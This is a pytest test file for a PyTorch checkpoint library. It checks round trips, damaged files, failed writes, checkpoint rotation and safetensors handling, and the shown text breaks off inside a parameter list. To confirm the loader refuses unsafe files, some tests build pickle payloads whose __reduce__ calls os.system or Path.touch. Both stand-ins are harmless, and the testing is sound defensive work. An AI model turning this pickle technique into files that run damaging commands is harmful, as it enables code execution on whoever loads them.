"""Tests of dlcomp.serialization: round trips, bad files, failed writes, safetensors."""

import collections
import enum
import errno
import fcntl
import io
import os
import pathlib
import pickle
import random
import signal
from unittest import mock

import pytest
import torch
from checkpoint_files import join, legacy_dict, split, write_legacy
from torch import nn

from dlcomp import (
    MLP,
    CheckpointError,
    CheckpointManager,
    _checkpoint,
    load_checkpoint,
    load_matching,
    load_safetensors,
    read_checkpoint,
    resumable_training,
    save_checkpoint,
    save_safetensors,
    serialization,
    tied_mlp,
)


def snapshot(module: nn.Module) -> dict:
    return {k: v.clone() for k, v in module.state_dict().items()}


def same(a: dict, b: dict) -> bool:
    return a.keys() == b.keys() and all(torch.equal(a[k], b[k]) for k in a)


def trained(model, steps=3):
    optimizer = torch.optim.Adam(model.parameters())
    for _ in range(steps):
        optimizer.zero_grad()
        model(torch.rand(4, 20)).pow(2).sum().backward()
        optimizer.step()
    return optimizer


def temporaries(folder: pathlib.Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.endswith(".tmp")]


# --- round trips --------------------------------------------------------------


def test_round_trip_restores_model_optimizer_and_extra(tmp_path):
    model = MLP()
    optimizer = trained(model)
    save_checkpoint(tmp_path / "c.pt", model, optimizer, step=7, losses=[1.0, 0.5])

    clone = MLP()
    clone_optimizer = torch.optim.Adam(clone.parameters())
    info = load_checkpoint(tmp_path / "c.pt", clone, clone_optimizer)
    assert (info.step, info.extra) == (7, {"losses": [1.0, 0.5]})
    assert same(snapshot(clone), snapshot(model))
    X = torch.rand(3, 20)
    assert torch.equal(clone.eval()(X), model.eval()(X))
    assert clone_optimizer.state_dict()["state"][0]["step"] == 3
    torch.testing.assert_close(
        clone_optimizer.state_dict()["state"][0]["exp_avg"],
        optimizer.state_dict()["state"][0]["exp_avg"],
    )


def test_map_location_puts_tensors_where_asked(tmp_path):
    save_checkpoint(tmp_path / "c.pt", MLP(), step=0)
    checkpoint = read_checkpoint(tmp_path / "c.pt", map_location="meta")
    assert checkpoint.model["hidden.weight"].device.type == "meta"
    assert (
        read_checkpoint(tmp_path / "c.pt").model["hidden.weight"].device.type == "cpu"
    )
    load_checkpoint(tmp_path / "c.pt", MLP(), map_location="cpu")


def test_save_refuses_what_a_safe_load_could_not_read(tmp_path):
    with pytest.raises(TypeError, match=r"extra\['when'\] is a builtins.object"):
        save_checkpoint(tmp_path / "c.pt", MLP(), step=0, when=object())
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize(
    ("step", "error", "message"),
    [
        (-1, ValueError, "step must be an int >= 0, got -1"),
        (1.5, TypeError, "step must be an int >= 0, got float 1.5"),
        (True, TypeError, "step must be an int >= 0, got bool True"),
        ("3", TypeError, "step must be an int >= 0, got str '3'"),
    ],
)
def test_save_refuses_a_bad_step(tmp_path, step, error, message):
    with pytest.raises(error, match=message):
        save_checkpoint(tmp_path / "c.pt", MLP(), step=step)
    with pytest.raises(error, match=message):
        CheckpointManager(tmp_path).save(step, MLP())
    assert [p.name for p in tmp_path.iterdir()] in ([], [".dlcomp.lock"])


# --- bad files: a clear CheckpointError, and the model unchanged --------------


class RunsCode:
    """Unpickling this calls Path.touch: a harmless stand-in for real damage."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (pathlib.Path.touch, (self.marker,))


def write_bad_files(folder: pathlib.Path) -> dict[str, tuple[pathlib.Path, str]]:
    good = folder / "good.pt"
    save_checkpoint(good, MLP(), step=1)
    data = good.read_bytes()
    files = {
        "empty": (b"", "not a checkpoint"),
        "text": (b"hello, this is a text file\n", "not a checkpoint"),
        "random bytes": (random.Random(0).randbytes(4096), "not a checkpoint"),
    }
    for cut in random.Random(1).sample(range(1, len(data) - 1), 6):
        files[f"truncated at {cut}"] = (
            data[:cut],
            "not a checkpoint|damaged checkpoint",
        )
    out = {}
    for name, (content, message) in files.items():
        path = folder / f"{name}.pt"
        path.write_bytes(content)
        out[name] = (path, message)

    payload = folder / "payload.pt"
    torch.save(
        {"format": "dlcomp.checkpoint", "x": RunsCode(folder / "PWNED")}, payload
    )
    out["code payload"] = (
        payload,
        r"would run code when unpickled.*weights_only=False",
    )

    other = folder / "other.pt"
    save_checkpoint(other, nn.Sequential(nn.Linear(20, 5)), step=1)
    out["other architecture"] = (other, "does not fit this MLP.*missing keys: hidden")

    bare = folder / "bare.pt"
    torch.save(MLP().state_dict(), bare)
    out["bare state_dict"] = (bare, "not a dlcomp checkpoint")
    return out


def test_bad_files_give_checkpoint_error_and_leave_the_model_unchanged(tmp_path):
    files = write_bad_files(tmp_path)
    assert len(files) >= 12
    for name, (path, message) in files.items():
        model = MLP()
        optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
        before, opt_before = snapshot(model), optimizer.state_dict()
        with pytest.raises(CheckpointError, match=message):
            load_checkpoint(path, model, optimizer)
        assert same(snapshot(model), before), name
        assert optimizer.state_dict() == opt_before, name
    assert not (tmp_path / "PWNED").exists()  # the payload never ran


def test_a_checkpoint_error_is_a_value_error():
    assert issubclass(CheckpointError, ValueError)


def test_shape_mismatch_names_the_parameter_and_both_shapes(tmp_path):
    save_checkpoint(tmp_path / "c.pt", nn.Sequential(nn.Linear(20, 8)), step=0)
    target = nn.Sequential(nn.Linear(20, 9))
    before = snapshot(target)
    with pytest.raises(
        CheckpointError,
        match=r"0.weight: \(8, 20\) in the checkpoint, \(9, 20\) in the model",
    ):
        load_checkpoint(tmp_path / "c.pt", target)
    assert same(snapshot(target), before)


def test_missing_and_unexpected_keys_are_listed(tmp_path):
    save_checkpoint(
        tmp_path / "c.pt", nn.Sequential(nn.Linear(4, 4), nn.Linear(4, 4)), step=0
    )
    with pytest.raises(CheckpointError, match=r"unexpected keys: 1.weight, 1.bias"):
        load_checkpoint(tmp_path / "c.pt", nn.Sequential(nn.Linear(4, 4)))
    with pytest.raises(CheckpointError, match=r"missing keys: 2.weight, 2.bias"):
        load_checkpoint(
            tmp_path / "c.pt",
            nn.Sequential(nn.Linear(4, 4), nn.Linear(4, 4), nn.Linear(4, 4)),
        )


def test_optimizer_requested_but_not_saved(tmp_path):
    save_checkpoint(tmp_path / "c.pt", MLP(), step=0)
    model = MLP()
    before = snapshot(model)
    with pytest.raises(CheckpointError, match="no optimizer state"):
        load_checkpoint(
            tmp_path / "c.pt", model, torch.optim.SGD(model.parameters(), lr=1)
        )
    assert same(snapshot(model), before)


def test_optimizer_of_another_shape(tmp_path):
    model = MLP()
    save_checkpoint(tmp_path / "c.pt", model, trained(model), step=0)
    clone = MLP()
    groups = [
        {"params": [clone.hidden.weight]},
        {"params": list(clone.out.parameters())},
    ]
    with pytest.raises(
        CheckpointError,
        match=r"parameter groups of sizes \[4\] in the file, \[1, 2\] here",
    ):
        load_checkpoint(tmp_path / "c.pt", clone, torch.optim.Adam(groups))


def test_missing_file_is_file_not_found(tmp_path):
    with pytest.raises(FileNotFoundError):
        load_checkpoint(tmp_path / "nope.pt", MLP())


# --- failed writes: clear error, old file intact, no temporary left -----------


def test_a_write_that_fails_part_way_leaves_the_old_checkpoint(tmp_path, monkeypatch):
    path = tmp_path / "c.pt"
    old_model = MLP()
    save_checkpoint(path, old_model, step=1)
    old_bytes = path.read_bytes()

    def disk_full(f, payload):
        f.write(b"x" * 1000)  # some bytes made it ...
        raise OSError(
            errno.ENOSPC, "No space left on device"
        )  # ... then the disk filled

    monkeypatch.setattr(serialization, "write", disk_full)
    with pytest.raises(
        OSError, match=r"could not write .*c\.pt: No space left on device.*unchanged"
    ) as info:
        save_checkpoint(path, MLP(), step=2)
    assert info.value.errno == errno.ENOSPC
    monkeypatch.undo()
    assert path.read_bytes() == old_bytes
    assert temporaries(tmp_path) == []
    restored = MLP()
    assert load_checkpoint(path, restored).step == 1
    assert same(snapshot(restored), snapshot(old_model))


@pytest.mark.parametrize("stop", [KeyboardInterrupt, SystemExit])
def test_ctrl_c_while_a_failed_write_is_handled_stays_a_ctrl_c(
    tmp_path, monkeypatch, stop
):
    path = tmp_path / "c.pt"
    save_checkpoint(path, MLP(), step=1)
    old_bytes = path.read_bytes()

    def interrupted_while_handling_a_full_disk(f, payload):
        try:
            raise OSError(errno.ENOSPC, "No space left on device")
        except OSError:
            raise stop from None  # __context__ is still the OSError

    monkeypatch.setattr(serialization, "write", interrupted_while_handling_a_full_disk)
    with pytest.raises(stop):  # not an OSError saying the write failed
        save_checkpoint(path, MLP(), step=2)
    monkeypatch.undo()
    assert path.read_bytes() == old_bytes
    assert temporaries(tmp_path) == []


def test_a_permission_error_on_rename_leaves_no_temporary(tmp_path, monkeypatch):
    path = tmp_path / "c.pt"
    save_checkpoint(path, MLP(), step=1)
    old_bytes = path.read_bytes()

    def refuse(src, dst):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(_checkpoint.os, "replace", refuse)
    with pytest.raises(PermissionError, match=r"Permission denied.*previous file"):
        save_checkpoint(path, MLP(), step=2)
    monkeypatch.undo()
    assert path.read_bytes() == old_bytes
    assert temporaries(tmp_path) == []


def test_an_interrupt_during_the_write_leaves_no_temporary(tmp_path, monkeypatch):
    def interrupted(f, payload):
        f.write(b"partial")
        raise KeyboardInterrupt

    monkeypatch.setattr(serialization, "write", interrupted)
    with pytest.raises(KeyboardInterrupt):
        save_checkpoint(tmp_path / "c.pt", MLP(), step=0)
    assert list(tmp_path.iterdir()) == []


# --- CheckpointManager --------------------------------------------------------


def test_manager_keeps_the_newest(tmp_path):
    manager = CheckpointManager(tmp_path, keep=3)
    model = MLP()
    for step in range(0, 60, 10):
        manager.save(step, model)
    assert [s for s, _ in manager.checkpoints()] == [30, 40, 50]
    assert manager.latest() == tmp_path / "step-000000050.pt"
    assert manager.restore(MLP()).step == 50


def test_manager_with_nothing_saved(tmp_path):
    manager = CheckpointManager(tmp_path / "new")
    assert manager.latest() is None
    assert manager.restore(MLP()) is None


def test_manager_skips_a_damaged_newest_file_and_says_so(tmp_path):
    manager = CheckpointManager(tmp_path)
    model = MLP()
    manager.save(10, model)
    good = snapshot(model)
    manager.save(20, MLP())
    newest = manager.latest()
    newest.write_bytes(
        newest.read_bytes()[:500]
    )  # torn by something outside our control
    target = MLP()
    with pytest.warns(RuntimeWarning, match=r"skipping checkpoint step-000000020\.pt"):
        assert manager.restore(target).step == 10
    assert same(snapshot(target), good)


def test_manager_raises_when_no_checkpoint_loads(tmp_path):
    manager = CheckpointManager(tmp_path)
    manager.save(1, MLP())
    manager.latest().write_bytes(b"")
    with (
        pytest.warns(RuntimeWarning, match="skipping"),
        pytest.raises(CheckpointError, match="none of the 1 checkpoints"),
    ):
        manager.restore(MLP())


def test_manager_ignores_and_cleans_abandoned_temporaries(tmp_path):
    manager = CheckpointManager(tmp_path)
    stale = tmp_path / ".dlcomp-abc123.tmp"  # its writer died: nobody holds its lock
    stale.write_bytes(b"half a checkpoint")
    old_style = tmp_path / ".step-000000010.pt.abc123.tmp"  # dlcomp 0.1's naming
    old_style.write_bytes(b"half a checkpoint")
    live = tmp_path / ".dlcomp-def456.tmp"  # another writer is writing it
    with open(live, "wb") as f:
        fcntl.flock(f.fileno(), fcntl.LOCK_EX)
        assert manager.latest() is None
        manager.save(10, MLP())
        assert live.exists()
    assert not stale.exists()
    assert not old_style.exists()


@pytest.mark.parametrize(
    ("keep", "error"),
    [(0, ValueError), (-1, ValueError), (1.5, TypeError), (True, TypeError)],
)
def test_manager_bad_keep(tmp_path, keep, error):
    message = r"^CheckpointManager: keep must be an int >= 1, got"
    with pytest.raises(error, match=message):
        CheckpointManager(tmp_path, keep=keep)


# --- load_matching (exercise 2) -----------------------------------------------


def test_reuse_the_first_two_layers_in_another_architecture():
    old = nn.Sequential(
        nn.Linear(20, 64), nn.ReLU(), nn.Linear(64, 32), nn.ReLU(), nn.Linear(32, 10)
    )
    new = nn.Sequential(
        nn.Linear(20, 64), nn.ReLU(), nn.Linear(64, 32), nn.ReLU(), nn.Linear(32, 3)
    )
    head_before = snapshot(new[4])
    report = load_matching(new, old.state_dict(), prefixes=("0.", "2."))
    assert report.loaded == ["0.weight", "0.bias", "2.weight", "2.bias"]
    assert report.not_used == ["4.weight", "4.bias"]
    assert report.left_in_model == ["4.weight", "4.bias"]
    assert torch.equal(new[2].weight, old[2].weight)
    assert same(snapshot(new[4]), head_before)


def test_load_matching_without_prefixes_takes_all_shared_names():
    report = load_matching(
        nn.Sequential(nn.Linear(2, 2)),
        nn.Sequential(nn.Linear(2, 2), nn.Linear(2, 1)).state_dict(),
    )
    assert report.loaded == ["0.weight", "0.bias"]
    assert report.not_used == ["1.weight", "1.bias"]


def test_load_matching_refuses_a_state_dict_that_shares_no_name_with_the_model():
    # The trap of load_state_dict(strict=False): names that all differ (here a
    # DDP-style "module." prefix) load nothing and raise nothing.
    trained = nn.Sequential(nn.Linear(2, 2))
    wrapped = {f"module.{k}": v for k, v in trained.state_dict().items()}
    new = nn.Sequential(nn.Linear(2, 2))
    before = snapshot(new)
    with pytest.raises(
        CheckpointError,
        match=r"shares no name with the model: the state dict has "
        r"module\.0\.weight, module\.0\.bias; the model has 0\.weight, 0\.bias",
    ):
        load_matching(new, wrapped)
    assert same(snapshot(new), before)


def test_load_matching_refuses_shape_mismatches_and_loads_nothing():
    old = nn.Sequential(nn.Linear(20, 64), nn.Linear(64, 10))
    new = nn.Sequential(nn.Linear(20, 64), nn.Linear(64, 5))
    before = snapshot(new)
    with pytest.raises(
        CheckpointError,
        match=r"1.weight: \(10, 64\) in the state dict, \(5, 64\) in the model",
    ):
        load_matching(new, old.state_dict())
    assert same(snapshot(new), before)


def test_load_matching_refuses_prefixes_the_model_lacks():
    with pytest.raises(CheckpointError, match=r"no entries named hidden\.weight"):
        load_matching(
            nn.Sequential(nn.Linear(20, 256)), MLP().state_dict(), prefixes=("hidden.",)
        )


# --- safetensors --------------------------------------------------------------


def test_plain_safetensors_refuses_a_tied_model(tmp_path):
    from safetensors.torch import save_file

    with pytest.raises(RuntimeError, match="share memory"):
        save_file(tied_mlp().state_dict(), tmp_path / "x.safetensors")


def test_safetensors_round_trip_keeps_the_tie(tmp_path):
    net = tied_mlp()
    save_safetensors(tmp_path / "t.safetensors", net)
    clone = tied_mlp()
    load_safetensors(tmp_path / "t.safetensors", clone)
    assert same(snapshot(clone), snapshot(net))
    assert clone[2].weight is clone[4].weight
    X = torch.rand(3, 4)
    assert torch.equal(clone(X), net(X))


def test_safetensors_of_another_architecture(tmp_path):
    save_safetensors(tmp_path / "m.safetensors", MLP())
    target = tied_mlp()
    before = snapshot(target)
    with pytest.raises(CheckpointError, match="does not fit this Sequential"):
        load_safetensors(tmp_path / "m.safetensors", target)
    assert same(snapshot(target), before)


def untied_mlp():
    """tied_mlp's layers, positions 2 and 4 two separate Linear(8, 8)."""
    return nn.Sequential(
        nn.Linear(4, 8), nn.ReLU(), nn.Linear(8, 8), nn.ReLU(), nn.Linear(8, 8),
        nn.ReLU(), nn.Linear(8, 1),
    )  # fmt: skip


def test_safetensors_own_save_model_file_of_a_tied_model_loads(tmp_path):
    from safetensors.torch import save_model

    net = tied_mlp()
    save_model(net, str(tmp_path / "t.safetensors"))  # stores 2.*, drops 4.*
    clone = tied_mlp()
    load_safetensors(tmp_path / "t.safetensors", clone)
    assert same(snapshot(clone), snapshot(net))
    assert clone[2].weight is clone[4].weight
    X = torch.rand(3, 4)
    assert torch.equal(clone(X), net(X))


def test_a_tie_stored_under_its_later_name_loads(tmp_path):
    from safetensors.torch import save_file

    net = tied_mlp()
    kept = {k: v.clone() for k, v in net.state_dict().items() if k[0] != "2"}
    save_file(kept, tmp_path / "t.safetensors")  # 4.* only, no metadata
    clone = tied_mlp()
    load_safetensors(tmp_path / "t.safetensors", clone)
    assert same(snapshot(clone), snapshot(net))


def test_a_name_missing_from_the_file_and_tied_to_nothing_is_refused(tmp_path):
    from safetensors.torch import save_model

    save_model(tied_mlp(), str(tmp_path / "t.safetensors"))  # no 4.*
    target = untied_mlp()  # 4.* is a tensor of its own here: nothing to fill it
    before = snapshot(target)
    with pytest.raises(CheckpointError, match=r"missing keys: 4\.weight, 4\.bias\."):
        load_safetensors(tmp_path / "t.safetensors", target)
    assert same(snapshot(target), before)


def test_a_tied_model_missing_an_untied_name_is_refused(tmp_path):
    from safetensors.torch import load_file, save_file, save_model

    save_model(tied_mlp(), str(tmp_path / "t.safetensors"))
    state = load_file(tmp_path / "t.safetensors")
    del state["6.weight"]
    save_file(state, tmp_path / "t.safetensors")
    target = tied_mlp()
    before = snapshot(target)
    with pytest.raises(CheckpointError, match=r"missing keys: 6\.weight\."):
        load_safetensors(tmp_path / "t.safetensors", target)
    assert same(snapshot(target), before)


def test_safetensors_file_contains_no_pickle(tmp_path):
    save_safetensors(tmp_path / "m.safetensors", MLP())
    with pytest.raises(pickle.UnpicklingError):
        pickle.load(io.BytesIO((tmp_path / "m.safetensors").read_bytes()))


# --- resumable_training -------------------------------------------------------


def test_resumed_training_equals_uninterrupted_training(tmp_path):
    full = resumable_training(tmp_path / "full", steps=20, save_every=5)
    resumable_training(
        tmp_path / "split", steps=12, save_every=5
    )  # stops at 12, saved at 10 and 12
    resumed = resumable_training(tmp_path / "split", steps=20, save_every=5)
    assert resumed.resumed_from == 12
    assert resumed.losses == full.losses
    assert same(snapshot(resumed.model), snapshot(full.model))


def test_resume_after_the_newest_checkpoint_is_lost(tmp_path):
    full = resumable_training(tmp_path / "full", steps=20, save_every=5)
    resumable_training(tmp_path / "run", steps=15, save_every=5)
    CheckpointManager(tmp_path / "run").latest().unlink()  # lose step 15: back to 10
    resumed = resumable_training(tmp_path / "run", steps=20, save_every=5)
    assert resumed.resumed_from == 10
    assert same(snapshot(resumed.model), snapshot(full.model))


# --- what an adversarial review found: each test failed before its fix ----------


def fake_checkpoint(path, **fields):
    """A version-2 file (torch.save), with ``fields`` replaced (None: removed)."""
    model = MLP()
    data = legacy_dict(model, torch.optim.SGD(model.parameters()), step=1)
    for key, value in fields.items():
        if value is None:
            data.pop(key, None)
        else:
            data[key] = value
    torch.save(data, path)
    return path


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"step": None}, "has no 'step' entry"),
        ({"step": "ten"}, "its step is 'ten'"),
        ({"step": -3}, "its step is -3"),
        ({"extra": None}, "extra values are not a dict"),
        ({"extra": [1, 2]}, "extra values are not a dict"),
        ({"model": None}, "has no model state_dict"),
        ({"optimizer": None}, "has no 'optimizer' entry"),
    ],
)
def test_a_damaged_field_is_a_checkpoint_error_and_nothing_changes(
    tmp_path, fields, message
):
    path = fake_checkpoint(tmp_path / "c.pt", **fields)
    model = MLP()
    optimizer = torch.optim.SGD(model.parameters())
    before = snapshot(model)
    with pytest.raises(CheckpointError, match=message):
        load_checkpoint(path, model, optimizer)
    assert same(snapshot(model), before)


def uncopyable_states():
    """State dicts whose shapes fit MLP but whose entries cannot be copied."""
    good = MLP().state_dict()
    sparse = dict(good)
    sparse["hidden.weight"] = good["hidden.weight"].to_sparse()
    meta = dict(good)
    meta["out.weight"] = torch.empty_like(good["out.weight"], device="meta")
    not_a_tensor = dict(good)
    not_a_tensor["out.bias"] = [0.0] * 10
    return {"sparse": sparse, "meta": meta, "not a tensor": not_a_tensor}


@pytest.mark.parametrize("kind", ["sparse", "meta", "not a tensor"])
def test_an_entry_that_cannot_be_copied_changes_nothing(tmp_path, kind):
    path = fake_checkpoint(tmp_path / "c.pt", model=uncopyable_states()[kind])
    model = MLP()
    before = snapshot(model)
    with pytest.raises(CheckpointError, match="Nothing was loaded"):
        load_checkpoint(path, model)
    assert same(snapshot(model), before)


@pytest.mark.parametrize("kind", ["sparse", "meta", "not a tensor"])
def test_load_matching_with_an_entry_that_cannot_be_copied_changes_nothing(kind):
    model = MLP()
    before = snapshot(model)
    with pytest.raises(CheckpointError, match="Nothing was loaded"):
        load_matching(model, uncopyable_states()[kind])
    assert same(snapshot(model), before)


@pytest.mark.parametrize("failure", [KeyboardInterrupt, RuntimeError])
def test_a_failure_between_the_two_loads_leaves_both_unchanged(
    tmp_path, monkeypatch, failure
):
    source = MLP()
    save_checkpoint(tmp_path / "c.pt", source, trained(source), step=3)
    model = MLP()
    optimizer = trained(model, steps=1)
    model_before, optimizer_before = snapshot(model), optimizer.state_dict()
    optimizer_before = {k: v.clone() for k, v in optimizer_before["state"][0].items()}

    def fails(state):
        raise failure("Ctrl-C between the model and the optimizer load")

    monkeypatch.setattr(optimizer, "load_state_dict", fails)
    expected = KeyboardInterrupt if failure is KeyboardInterrupt else CheckpointError
    with pytest.raises(expected):
        load_checkpoint(tmp_path / "c.pt", model, optimizer)
    monkeypatch.undo()
    assert same(snapshot(model), model_before)
    assert same(optimizer.state_dict()["state"][0], optimizer_before)


def test_an_adam_checkpoint_is_refused_by_sgd_with_momentum(tmp_path):
    model = MLP()
    save_checkpoint(tmp_path / "c.pt", model, trained(model), step=3)
    target = MLP()
    sgd = torch.optim.SGD(target.parameters(), lr=0.1, momentum=0.9)
    before = snapshot(target)
    with pytest.raises(
        CheckpointError, match=r"state of a torch\.optim\.adam\.Adam.*SGD"
    ):
        load_checkpoint(tmp_path / "c.pt", target, sgd)
    assert same(snapshot(target), before)
    target(torch.rand(2, 20)).sum().backward()
    sgd.step()  # still a working SGD: it did not get Adam's hyperparameters


def sgd_momentum_checkpoint(path):
    """A checkpoint of MLP and SGD with momentum after one step; its raw dict."""
    model = MLP()
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    model(torch.rand(2, 20)).sum().backward()
    optimizer.step()
    data = legacy_dict(model, optimizer, step=1)
    torch.save(data, path)
    return path, data


def test_a_momentum_buffer_of_the_wrong_shape_is_refused(tmp_path):
    path, data = sgd_momentum_checkpoint(tmp_path / "c.pt")
    data["optimizer"]["state"][0]["momentum_buffer"] = torch.zeros(3, 3)
    torch.save(data, path)
    target = MLP()
    with pytest.raises(CheckpointError, match=r"momentum_buffer: \(3, 3\) in the file"):
        load_checkpoint(
            path, target, torch.optim.SGD(target.parameters(), momentum=0.9)
        )


class Color(enum.IntEnum):
    RED = 1


class Name(str):
    pass


Point = collections.namedtuple("Point", "x y")


@pytest.mark.parametrize(
    "value",
    [Color.RED, Name("run-1"), Point(1, 2), collections.defaultdict(list)],
    ids=["IntEnum", "str subclass", "namedtuple", "defaultdict"],
)
def test_what_a_safe_load_would_refuse_is_refused_at_save(tmp_path, value):
    with pytest.raises(TypeError, match="which a checkpoint cannot store"):
        save_checkpoint(tmp_path / "c.pt", MLP(), step=1, value=value)
    assert not (tmp_path / "c.pt").exists()


def test_numpy_scalars_are_saved_as_python_numbers_and_load_back(tmp_path):
    np = pytest.importorskip("numpy")
    losses = np.array([0.5, 0.25])
    save_checkpoint(
        tmp_path / "c.pt", MLP(), step=1, mean=np.mean(losses), count=np.int64(2)
    )
    info = load_checkpoint(tmp_path / "c.pt", MLP())
    assert info.extra == {"mean": 0.375, "count": 2}
    assert type(info.extra["mean"]) is float
    assert type(info.extra["count"]) is int


def test_an_uninitialized_lazy_model_is_refused_at_save(tmp_path):
    lazy = nn.Sequential(nn.LazyLinear(4))
    with pytest.raises(ValueError, match=r"uninitialized.*0\.weight.*sample batch"):
        save_checkpoint(tmp_path / "c.pt", lazy, step=1)
    with pytest.raises(ValueError, match="uninitialized"):
        save_safetensors(tmp_path / "c.safetensors", lazy)
    assert not list(tmp_path.glob("c.*"))


def test_steps_of_a_billion_and_more_are_listed_and_pruned(tmp_path):
    manager = CheckpointManager(tmp_path, keep=2)
    for step in (999_999_999, 1_000_000_000, 12_345_678_901):
        manager.save(step, MLP())
    assert [s for s, _ in manager.checkpoints()] == [1_000_000_000, 12_345_678_901]
    assert manager.restore(MLP()).step == 12_345_678_901
    assert sorted(p.name for p in tmp_path.glob("step-*")) == [
        "step-1000000000.pt",
        "step-12345678901.pt",
    ]


def test_the_same_step_spelled_with_more_zeros_is_not_listed(tmp_path):
    manager = CheckpointManager(tmp_path)
    manager.save(5, MLP())
    (tmp_path / "step-0000000005.pt").write_bytes(manager.latest().read_bytes())
    assert [p.name for _, p in manager.checkpoints()] == ["step-000000005.pt"]


def test_extras_cannot_override_the_step(tmp_path):
    manager = CheckpointManager(tmp_path)
    manager.save(5, MLP(), world_size=64, path="elsewhere")
    info = manager.restore(MLP())
    assert (info.step, info.world_size, info.path) == (5, 1, manager.latest())
    assert info.extra == {"world_size": 64, "path": "elsewhere"}


def test_saving_a_step_older_than_the_kept_ones_keeps_it_until_the_next_save(
    tmp_path,
):
    manager = CheckpointManager(tmp_path, keep=2)
    manager.save(10, MLP())
    manager.save(20, MLP())
    path = manager.save(5, MLP())
    assert path.exists()  # the path a save returns is there
    assert [s for s, _ in manager.checkpoints()] == [5, 10, 20]
    assert manager.restore(MLP()).step == 20  # the newest step, not the newest file
    manager.save(30, MLP())
    assert [s for s, _ in manager.checkpoints()] == [20, 30]


def test_restore_falls_back_past_a_directory_and_a_fifo_named_like_checkpoints(
    tmp_path,
):
    manager = CheckpointManager(tmp_path)
    model = MLP()
    manager.save(10, model)
    (tmp_path / "step-000000020.pt").mkdir()
    os.mkfifo(tmp_path / "step-000000030.pt")
    signal.alarm(60)  # a FIFO opened for reading would block forever
    try:
        target = MLP()
        with pytest.warns(RuntimeWarning, match="named like a checkpoint") as warned:
            assert manager.restore(target).step == 10
        said = " ".join(str(w.message) for w in warned)
        assert (
            "step-000000020.pt: it is named like a checkpoint but is a directory"
            in said
        )
        assert "step-000000030.pt: it is named like a checkpoint but is a FIFO" in said
        with pytest.raises(CheckpointError, match="not a regular file"):
            load_checkpoint(tmp_path / "step-000000030.pt", MLP())
        with pytest.raises(CheckpointError, match="not a regular file"):
            load_checkpoint(tmp_path / "step-000000020.pt", MLP())
    finally:
        signal.alarm(0)
    assert same(snapshot(target), snapshot(model))


def test_restore_skips_a_checkpoint_deleted_after_it_was_listed(tmp_path, monkeypatch):
    manager = CheckpointManager(tmp_path)
    manager.save(10, MLP())
    manager.save(20, MLP())
    listed = manager.checkpoints()
    manager.latest().unlink()  # another process's cleanup, after our listing
    monkeypatch.setattr(manager, "checkpoints", lambda: listed)
    assert manager.restore(MLP()).step == 10


class Evil:
    def __reduce__(self):
        return (os.system, ("true",))


def code_payloads(folder):
    modern = folder / "modern.pt"
    torch.save({"x": Evil()}, modern)
    legacy = folder / "legacy.pt"
    torch.save({"x": Evil()}, legacy, _use_new_zipfile_serialization=False)
    raw = folder / "raw.pkl"
    raw.write_bytes(pickle.dumps({"x": Evil()}))
    raw2 = folder / "raw2.pkl"
    raw2.write_bytes(pickle.dumps({"x": Evil()}, protocol=2))
    return {"modern": modern, "legacy": legacy, "raw pickle": raw, "raw pickle 2": raw2}


@pytest.mark.parametrize("kind", ["modern", "legacy", "raw pickle", "raw pickle 2"])
def test_a_code_payload_is_called_code_not_corruption(tmp_path, kind):
    path = code_payloads(tmp_path)[kind]
    with pytest.raises(CheckpointError, match="would run code") as caught:
        load_checkpoint(path, MLP())
    assert "corrupted" not in str(caught.value)


def gpu_checkpoint(path):
    """A version-2 checkpoint whose tensors say they were saved on cuda:0."""
    with mock.patch("torch.serialization.location_tag", return_value="cuda:0"):
        write_legacy(path, MLP(), step=1)
    return path


def test_a_file_never_chooses_the_device_its_tensors_are_loaded_on(tmp_path):
    path = gpu_checkpoint(tmp_path / "gpu.pt")
    checkpoint = read_checkpoint(path)
    assert checkpoint.model["hidden.weight"].device.type == "cpu"
    assert load_checkpoint(path, MLP()).step == 1


@pytest.mark.skipif(
    torch.cuda.is_available(),
    reason="on a CUDA machine 'cuda' is a device there; the CPU run checks the message",
)
@pytest.mark.parametrize("map_location", ["cuda", torch.device("cuda", 0), "mps"])
def test_a_device_this_machine_lacks_is_the_callers_mistake(tmp_path, map_location):
    save_checkpoint(tmp_path / "c.pt", MLP(), step=1)
    with pytest.raises(
        ValueError,
        match=r"asks for a \w+ device, and this machine has none.*map_location='cpu'",
    ) as caught:
        load_checkpoint(tmp_path / "c.pt", MLP(), map_location=map_location)
    assert not isinstance(caught.value, CheckpointError)  # not the file's fault


@pytest.mark.parametrize(
    ("map_location", "error", "message"),
    [
        (7, TypeError, "got the int 7"),
        ("cpu:3", ValueError, "the CPU has no index 3"),
        ({"cuda:0": "cpu"}, TypeError, "got the dict"),
    ],
)
def test_a_map_location_of_the_wrong_kind_is_refused_before_reading(
    tmp_path, map_location, error, message
):
    save_checkpoint(tmp_path / "c.pt", MLP(), step=1)
    with pytest.raises(error, match=message):
        load_checkpoint(tmp_path / "c.pt", MLP(), map_location=map_location)


@pytest.mark.parametrize(
    "tied",
    ["{not json", "[1, 2]", '{"a": 3}', '"text"'],
    ids=["bad json", "list", "int value", "str"],
)
def test_bad_tied_metadata_is_a_checkpoint_error(tmp_path, tied):
    from safetensors.torch import save_file

    path = tmp_path / "t.safetensors"
    save_file(
        {k: v.contiguous() for k, v in MLP().state_dict().items()},
        path,
        metadata={"tied": tied},
    )
    model = MLP()
    before = snapshot(model)
    with pytest.raises(CheckpointError, match="'tied' metadata"):
        load_safetensors(path, model)
    assert same(snapshot(model), before)


def test_a_string_prefix_matches_whole_components():
    old = nn.Sequential(*[nn.Linear(3, 3) for _ in range(12)])
    new = nn.Sequential(*[nn.Linear(3, 3) for _ in range(12)])
    report = load_matching(new, old.state_dict(), prefixes="1.")
    assert report.loaded == ["1.weight", "1.bias"]
    assert load_matching(new, old.state_dict(), prefixes="1").loaded == report.loaded
    assert not torch.equal(new[10].weight, old[10].weight)
    assert torch.equal(new[1].weight, old[1].weight)


@pytest.mark.parametrize(
    ("prefixes", "got"),
    [
        ([], "an empty sequence"),
        ((), "an empty sequence"),
        ("", "''"),
        ([""], "''"),
        (" 0", "' 0'"),
        ("0 ", "'0 '"),
        (["0", "2,"], "'2,'"),
        (".0", "'.0'"),
        ("0..", "'0..'"),
